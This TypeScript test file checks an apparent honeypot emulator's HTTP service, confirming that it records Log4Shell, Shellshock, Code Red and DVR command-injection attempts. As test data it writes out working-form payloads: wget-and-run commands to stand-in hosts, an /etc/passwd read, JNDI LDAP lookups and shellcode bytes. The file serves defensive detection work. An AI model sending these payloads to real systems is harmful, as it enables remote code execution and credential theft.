import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { RecordingEndpoint } from '../../../../src/emulator/behaviour/network-endpoint.ts';
import { evaluateLog4jLookups, javaEnvironment } from '../../../../src/emulator/jndi/index.ts';
import type { DummyObservation } from '../../../../src/emulator/services/observation.ts';
import { httpService, IDQ_BUFFER_CHARACTERS } from '../../../../src/emulator/services/http/index.ts';
import type { ServiceConnection } from '../../../../src/emulator/services/service.ts';
import { skipWithoutCorpus } from '../../../helpers/corpus.ts';
import { clientTurns, corpusSessions } from '../../../helpers/corpus-sessions.ts';
import { seededRandom } from '../../../helpers/random.ts';
import { TestServiceHost } from '../../../helpers/service-host.ts';
import { loggedLookups } from '../../jndi/corpus-payloads.ts';

const encoder = new TextEncoder();
const decoder = new TextDecoder('latin1');

function open(profileId: string, port = 80): { host: TestServiceHost; connection: ServiceConnection } {
  const host = new TestServiceHost(profileId);
  return { host, connection: httpService().open(host, { address: '192.0.2.7', port: 40_000 }, port) };
}

function send(connection: ServiceConnection, text: string): string {
  return decoder.decode(connection.receive(encoder.encode(text)));
}

/** lookups the host was asked to evaluate, run through the real resolver: what they resolved to */
function resolvedLookups(host: TestServiceHost): string[] {
  const observations: DummyObservation[] = [];
  for (const { text } of host.lookups) {
    evaluateLog4jLookups(text, { network: new RecordingEndpoint(), environment: javaEnvironment({ hostName: 'dummy' }), origin: 'http', observe: (observation) => observations.push(observation), now: () => 0 });
  }
  return observations.flatMap((observation) => (observation.kind === 'lookup' ? [observation.resolved] : []));
}

describe('httpService on the corpus', { skip: skipWithoutCorpus() }, () => {
  const log4shell: [string, string, number][] = [
    ['cve-2021-44228-log4shell-useragent-revshell.pcap', 'linux-tomcat-log4j-2.14', 8080],
    ['cve-2021-44228-log4shell-login-revshell.pcap', 'linux-tomcat-log4j-2.14', 8080],
    ['cve-2021-44228-log4shell-dns-exfil.pcap', 'linux-tomcat-log4j-2.14', 8080],
    ['cve-2021-44228-log4shell-ldaps-443.pcapng', 'linux-java-log4j-2.14', 8000],
  ];
  for (const [capture, profileId, port] of log4shell) {
    it(`${capture} on ${profileId}: the JNDI expression reaches the logger`, async () => {
      const { host, texts } = await loggedLookups(capture, profileId, port);
      assert.ok(texts.some((text) => text.includes('${jndi:')), `logged: ${JSON.stringify(texts)}`);
      assert.ok(host.lookups.every((lookup) => lookup.origin === 'http'));
      assert.ok(resolvedLookups(host).some((resolved) => resolved.startsWith('jndi:')));
      assert.equal(host.exploits.length, 0);
    });
  }

  const quiet = ['benign-http-wikipedia.pcap', 'benign-http-browse-2011.pcap', 'benign-http-google.pcapng', 'benign-http-m57-long.pcap', 'dvwa-sqli-lamp.pcapng', 'cve-2007-1868-tivoli-auth-overflow.pcap'];
  for (const capture of quiet) {
    it(`${capture}: nothing reported on Apache profiles and no JNDI lookup on a Log4j one`, async () => {
      let requests = 0;
      for (const profileId of ['linux-apache-bash-cgi', 'win-2003-sp2-apache-2.2', 'linux-openssl-1.0.1f', 'linux-tomcat-log4j-2.14']) {
        const host = new TestServiceHost(profileId);
        for (const session of await corpusSessions(capture)) {
          const turns = clientTurns(session);
          if (session.proto !== 'tcp' || turns.length === 0 || !/^[A-Z]{3,10} \//.test(decoder.decode(turns[0]!.subarray(0, 16)))) continue;
          requests++;
          const connection = httpService().open(host, { address: session.client.ip, port: session.client.port }, 80);
          for (const turn of turns) connection.receive(turn);
          connection.end();
        }
        assert.deepEqual(host.exploits, [], profileId);
        assert.deepEqual(host.commands, [], profileId);
        assert.deepEqual(host.codeRuns, [], profileId);
        assert.ok(!resolvedLookups(host).some((resolved) => resolved.startsWith('jndi:')), profileId);
      }
      assert.ok(requests > 0, 'the capture has HTTP requests');
    });
  }
});

describe('httpService personalities', () => {
  it('Apache with bash CGI: a function definition in a header is Shellshock, the trailing command runs', () => {
    const { host, connection } = open('linux-apache-bash-cgi');
    const answer = send(connection, 'GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c "wget http://203.0.113.9/x.sh"\r\nReferer: () { ignored; }\r\n\r\n');
    assert.match(answer, /^HTTP\/1\.1 200 OK\r\n[^]*Server: Apache\/2\.2\.22 \(Debian\)/);
    assert.equal(host.exploits.length, 1);
    assert.equal(host.exploits[0]!.vulnerability, 'CVE-2014-6271');
    assert.ok(host.exploits[0]!.vulnerable);
    assert.deepEqual(host.commands, [{ shell: 'sh', commandLine: '/bin/bash -c "wget http://203.0.113.9/x.sh"', origin: 'http' }]);
  });

  it('Apache with bash CGI: outside /cgi-bin/ no bash runs; plain requests get 200 and 404', () => {
    const { host, connection } = open('linux-apache-bash-cgi');
    assert.match(send(connection, 'GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; id\r\n\r\n'), /^HTTP\/1\.1 200 /);
    assert.match(send(connection, 'GET /nothing.html HTTP/1.1\r\nHost: x\r\n\r\n'), /^HTTP\/1\.1 404 Not Found[^]*was not found on this server/);
    assert.equal(host.exploits.length + host.commands.length, 0);
  });

  it('IIS 5 with .ida mapped: a Code Red style query overflows idq.dll; the %u-decoded request runs as code', () => {
    const { host, connection } = open('win-2000-sp2-iis5');
    const query = `${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801%u9090=a`;
    connection.receive(encoder.encode(`GET /default.ida?${query} HTTP/1.0\r\nContent-type: text/xml\r\nContent-length: 8\r\n\r\n\x90\x90\x90\x90\xcc\xcc\xcc\xcc`));
    assert.equal(host.exploits[0]?.vulnerability, 'MS01-033');
    assert.ok(host.exploits[0]!.vulnerable);
    assert.equal(host.codeRuns.length, 1);
    const { bytes, hints } = host.codeRuns[0]!;
    assert.deepEqual(hints, { service: 'http', vulnerability: 'MS01-033', os: 'windows', bits: 32 });
    assert.ok(Buffer.from(bytes).includes(Buffer.from([0x90, 0x90, 0x58, 0x68, 0xd3, 0xcb])), '%u escapes decoded little-endian');
    assert.ok(connection.closed);
  });

  it('IIS 5 SP4 (patched): the attempt is reported, no code runs; short .ida queries are harmless', () => {
    const { host, connection } = open('win-2000-sp4-iis5');
    send(connection, `GET /a.idq?${'X'.repeat(IDQ_BUFFER_CHARACTERS + 50)} HTTP/1.1\r\nHost: x\r\n\r\n`);
    send(connection, 'GET /a.ida?short HTTP/1.1\r\nHost: x\r\n\r\n');
    assert.equal(host.exploits.length, 1);
    assert.equal(host.exploits[0]!.vulnerable, false);
    assert.equal(host.codeRuns.length, 0);
  });

  it('BusyBox DVR: shell syntax in a parameter and JAWS /shell?cmd reach sh', () => {
    const { host, connection } = open('busybox-dvr');
    send(connection, 'GET /shell?cd+/tmp;wget+http://198.51.100.4/b;chmod+777+b;./b HTTP/1.1\r\nHost: x\r\n\r\n');
    send(connection, 'POST /cgi-bin/ping.cgi HTTP/1.1\r\nHost: x\r\nContent-Length: 28\r\n\r\nip=1.1.1.1%3Bcat+/etc/passwd');
    send(connection, 'GET /index.html?lang=en HTTP/1.1\r\nHost: x\r\n\r\n');
    assert.deepEqual(host.exploits.map((exploit) => exploit.vulnerability), ['DVR-WEB-CMDI', 'DVR-WEB-CMDI']);
    assert.deepEqual(host.commands.map((command) => command.commandLine), ['cd /tmp;wget http://198.51.100.4/b;chmod 777 b;./b', '1.1.1.1;cat /etc/passwd']);
  });

  it('Tomcat with Log4j: headers, query, form and JSON strings are logged (decoded); 404 and login pages', () => {
    const { host, connection } = open('linux-tomcat-log4j-2.14', 8080);
    const json = '{"user":{"name":"${jndi:ldap://j.example/c}"}}';
    const answers = [
      send(connection, 'GET /app/?q=%24%7Bjndi%3Aldap%3A%2F%2Fq.example%2Fa%7D HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://h.example/b}\r\n\r\n'),
      send(connection, `POST /api HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${json.length}\r\n\r\n${json}`),
    ];
    assert.match(answers[0]!, /^HTTP\/1\.1 200 [^]*Server: Apache-Coyote\/1\.1[^]*name="uname"/);
    assert.match(answers[1]!, /^HTTP\/1\.1 404 [^]*Apache Tomcat\/8\.0\.36/);
    const texts = host.lookups.map((lookup) => lookup.text);
    for (const expected of ['${jndi:ldap://q.example/a}', '${jndi:ldap://h.example/b}', '${jndi:ldap://j.example/c}']) assert.ok(texts.includes(expected), expected);
  });
});

describe('HTTP request parsing', () => {
  it('pieces, pipelining and chunked bodies', () => {
    const { host, connection } = open('linux-tomcat-log4j-2.14', 8080);
    const stream = 'POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n${jnd\r\n15;ext=1\r\ni:ldap://c.example/a}\r\n0\r\n\r\nGET /b?x=${jndi:ldap://p.example/b} HTTP/1.1\r\nHost: x\r\n\r\n';
    let answers = '';
    for (let offset = 0; offset < stream.length; offset += 7) answers += send(connection, stream.slice(offset, offset + 7));
    assert.equal(answers.match(/HTTP\/1\.1 \d{3}/g)?.length, 2);
    assert.deepEqual(host.lookups.map((lookup) => lookup.text).filter((text) => text.startsWith('${')), ['${jndi:ldap://c.example/a}', '${jndi:ldap://p.example/b}']);
  });

  it('conflicting Content-Length: 400 and the connection closes, with an anomaly', () => {
    const { host, connection } = open('linux-apache-bash-cgi');
    assert.match(send(connection, 'POST / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab'), /^HTTP\/1\.1 400 /);
    assert.ok(connection.closed);
    assert.ok(host.anomalies.includes('http.content_length_conflict'));
  });

  it('garbage and oversized heads are refused, not thrown', () => {
    const { host, connection } = open('win-2003-sp0-iis6');
    assert.match(send(connection, '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 garbage\r\n\r\n'), /^HTTP\/1\.1 400 /);
    const big = open('linux-apache-bash-cgi');
    big.connection.receive(encoder.encode(`GET / HTTP/1.1\r\nX: ${'a'.repeat(70_000)}`));
    assert.ok(big.connection.closed);
    assert.ok(host.anomalies.includes('http.request_line_invalid'));
    assert.ok(big.host.anomalies.includes('http.header_section_too_large'));
  });

  it('mutated requests never throw on any personality', () => {
    const seeds = [
      'GET /cgi-bin/a.sh?x=1 HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :;}; echo hi\r\nCookie: a=b\r\n\r\n',
      'POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 30\r\n\r\nuname=%24%7Bjndi%3Aldap%3A%2F%2F',
      `GET /x.ida?${'N'.repeat(300)}%u9090%u68 HTTP/1.0\r\n\r\n`,
      'POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n',
      'GET /shell?$(id)|`x`&&y HTTP/1.1\r\n\r\n',
    ];
    const profiles = ['linux-apache-bash-cgi', 'win-nt4-sp6a-iis4', 'linux-tomcat-log4j-2.14', 'busybox-dvr', 'linux-java-log4j-2.14', 'win-2003-sp2-apache-2.2'];
    const random = seededRandom(20_211_210);
    for (let round = 0; round < 600; round++) {
      const bytes = encoder.encode(seeds[round % seeds.length]!);
      const mutated = Uint8Array.from(bytes);
      for (let flips = Math.floor(random() * 12); flips > 0; flips--) mutated[Math.floor(random() * mutated.length)] = Math.floor(random() * 256);
      const cut = Math.floor(random() * mutated.length);
      const { connection } = open(profiles[round % profiles.length]!);
      connection.receive(mutated.subarray(0, cut));
      connection.receive(mutated.subarray(cut));
      connection.receive(mutated);
      connection.end();
    }
  });
});
